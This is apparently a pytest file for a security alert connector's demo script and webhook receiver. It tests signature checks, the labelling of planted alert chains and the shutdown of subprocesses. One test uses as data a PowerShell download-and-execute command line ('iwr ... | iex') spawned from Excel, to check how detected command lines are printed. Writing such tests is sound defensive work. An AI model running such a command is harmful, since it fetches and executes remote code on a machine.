"""`scripts/demo` and its webhook receiver (`scripts/demo_receiver.py`), run for real.

The demo runs with the virtualenv of this test run (`S1_DEMO_VENV`), so it installs nothing;
it takes about 7 s on the 2-core CI machine (10 s under load), which is why it is part of the
default run; only a first run from a fresh clone pays for `pip install` (about 18 s in all).
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import requests
from pydantic import SecretStr

from connector.outputs.signing import Signer, webhook_id
from tests.conftest import REPO
from tests.e2e_sim.support import cli_env

DEMO = REPO / "scripts" / "demo"
RECEIVER = REPO / "scripts" / "demo_receiver.py"
SECRET = "whsec_" + "c2VjcmV0LWtleS1mb3ItdGhlLWRlbW8tdGVzdHM="
DEMO_TIMEOUT_S = 120


def _load_receiver() -> ModuleType:
    spec = importlib.util.spec_from_file_location("demo_receiver", RECEIVER)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


receiver_module = _load_receiver()


# -- the receiver -------------------------------------------------------------------------


@pytest.fixture
def receiver(tmp_path: Path) -> Iterator[tuple[subprocess.Popen[str], str, Path]]:
    """The receiver in a subprocess: (process, base URL, body log)."""
    port_file, log = tmp_path / "port", tmp_path / "received.jsonl"
    env = {**cli_env(), "DEMO_SECRET": SECRET}
    argv = [sys.executable, str(RECEIVER), "serve", "--port-file", str(port_file)]
    argv += ["--log", str(log), "--secret-env", "DEMO_SECRET"]
    with subprocess.Popen(
        argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env
    ) as proc:
        try:
            yield proc, f"http://127.0.0.1:{_wait_for_port(port_file, proc)}", log
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()


def _wait_for_port(port_file: Path, proc: subprocess.Popen[str]) -> int:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        if port_file.exists():
            return int(port_file.read_text())
        assert proc.poll() is None, "the receiver died at start-up"
        time.sleep(0.05)
    raise AssertionError("the receiver did not write its port")


def _post(url: str, alert: dict[str, Any], secret: str | None) -> requests.Response:
    body = json.dumps({"type": "alert.created", "timestamp": "now", "data": alert}).encode()
    msg_id = webhook_id(alert["event"]["id"], "demo")
    signer = Signer("standard", SecretStr(secret) if secret else None)
    headers = {"content-type": "application/json", **signer.headers(msg_id, int(time.time()), body)}
    return requests.post(url + "/hooks/s1", data=body, headers=headers, timeout=10)


def _alert(alert_id: str, *event_ids: str, host: str = "WKS-0004") -> dict[str, Any]:
    events = [{"event": {"id": i}, "@timestamp": "2026-11-20T10:00:00.000Z"} for i in event_ids]
    return {
        "@timestamp": "2026-11-20T10:00:02.300Z",
        "event": {"id": alert_id},
        "host": {"name": host},
        "rule": {"name": "Suspicious Command Prompt Network Connection", "severity": "low"},
        "sequence": {"events": events},
    }


def test_the_receiver_prints_logs_and_checks_the_connectors_signatures(
    receiver: tuple[subprocess.Popen[str], str, Path],
) -> None:
    proc, url, log = receiver
    assert _post(url, _alert("a" * 64, "e1", "e2"), SECRET).status_code == 204
    assert _post(url, _alert("b" * 64, "e3", "e4"), "whsec_d3Jvbmcta2V5").status_code == 204
    assert requests.get(url + "/hooks/s1", timeout=10).status_code == 405
    proc.send_signal(signal.SIGTERM)
    out, _ = proc.communicate(timeout=10)

    assert proc.returncode == 0, out
    lines = out.splitlines()
    assert lines[0].startswith("webhook #1: alert.created aaaaaaaaaaaa WKS-0004")
    assert lines[0].endswith("signature ok")
    assert lines[1].endswith("signature BAD")
    assert len(lines) == 2
    bodies = [json.loads(line) for line in log.read_text().splitlines()]
    assert [b["data"]["event"]["id"][0] for b in bodies] == ["a", "b"]


def test_signature_check_matches_the_connectors_signer() -> None:
    body, msg_id, stamp = b'{"x":1}', "msg_1", 1_700_000_000
    headers = Signer("standard", SecretStr(SECRET)).headers(msg_id, stamp, body)
    assert receiver_module.verify_signature(SECRET, headers, body)
    assert not receiver_module.verify_signature(SECRET, headers, body + b" ")
    assert not receiver_module.verify_signature(SECRET, {**headers, "webhook-timestamp": "1"}, body)


LABELS = receiver_module.Labels({"e1": "office-macro", "e2": "office-macro"}, {"n1": "gap-16s"})


@pytest.mark.parametrize(
    ("alerts", "expect", "code", "marks"),
    [
        ([_alert("a" * 64, "e1", "e2")], 1, 0, ["planted chain office-macro"]),
        ([_alert("a" * 64, "e1", "n1")], None, 1, ["NEAR MISS gap-16s", "1 WRONG"]),
        ([_alert("a" * 64, "x1", "x2")], None, 1, ["UNKNOWN"]),
        ([_alert("a" * 64, "e1", "e2")], 2, 1, ["EXPECTED 2"]),
        ([], 0, 0, ["0 alert(s)"]),
    ],
)
def test_show_marks_each_alert_and_fails_on_a_wrong_one(
    alerts: list[dict[str, Any]], expect: int | None, code: int, marks: list[str]
) -> None:
    out = io.StringIO()
    lines = [json.dumps(a) for a in alerts]
    assert receiver_module.show(lines, out, LABELS, "run", expect) == code
    for mark in marks:
        assert mark in out.getvalue()


def test_command_lines_are_printed_as_they_are() -> None:
    command = '"C:\\Program Files\\x.exe" /c "iwr https://files.example.org/a.ps1 | iex"' * 3
    alert = _alert("a" * 64, "e1")
    alert["sequence"]["events"][0]["process"] = {
        "command_line": command + "\nFAKE LINE",
        "parent": {"name": "EXCEL.EXE"},
    }
    text = "\n".join(receiver_module.describe(alert))
    assert f"EXCEL.EXE -> {command}\\nFAKE LINE" in text  # whole, quotes balanced
    assert "\nFAKE LINE" not in text


# -- the demo -----------------------------------------------------------------------------


def _demo_env() -> dict[str, str]:
    return {**cli_env(), "S1_DEMO_VENV": sys.prefix}


def _addresses(text: str) -> list[tuple[str, int]]:
    return [(h, int(p)) for h, p in re.findall(r"http://(127\.0\.0\.1):(\d+)", text)]


def _closed(address: tuple[str, int]) -> bool:
    with socket.socket() as sock:
        return sock.connect_ex(address) != 0


@pytest.mark.slow
def test_the_demo_prints_the_planted_alerts_and_stops_everything() -> None:
    started = time.monotonic()
    done = subprocess.run(
        [str(DEMO)],
        capture_output=True,
        text=True,
        env=_demo_env(),
        timeout=DEMO_TIMEOUT_S,
        check=False,
    )
    seconds = time.monotonic() - started
    out = done.stdout

    assert done.returncode == 0, out + done.stderr
    assert "result: OK" in out
    assert "alerts per run: poll-1: 3 poll-2: 0 hunt: 5" in out
    assert out.count("= planted chain") == 8  # 3 from the first poll, 5 from the hunt
    assert "NEAR MISS" not in out and "UNKNOWN" not in out
    assert out.count("signature ok") == 3
    addresses = _addresses(out)
    assert len(addresses) >= 2 and all(_closed(a) for a in addresses)
    config = re.search(r"config: (\S+)", out)
    assert config and not Path(config.group(1)).parent.exists(), "the temp folder must be gone"
    assert seconds < 60


@pytest.mark.slow
def test_ctrl_c_stops_the_demo_and_everything_it_started() -> None:
    with subprocess.Popen(
        [str(DEMO)],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env=_demo_env(),
        start_new_session=True,
    ) as proc:
        assert proc.stdout is not None
        seen = []
        for line in proc.stdout:
            seen.append(line)
            if line.startswith("== s1-connector poll"):
                break
        assert seen and seen[-1].startswith("== s1-connector poll"), "".join(seen)
        os.killpg(proc.pid, signal.SIGINT)  # what a terminal's Ctrl-C does
        rest, _ = proc.communicate(timeout=30)
    out = "".join(seen) + rest
    assert proc.returncode == 130, out
    addresses = _addresses(out)
    assert len(addresses) >= 2 and all(_closed(a) for a in addresses), out
    config = re.search(r"config: (\S+)", out)
    assert config and not Path(config.group(1)).parent.exists()
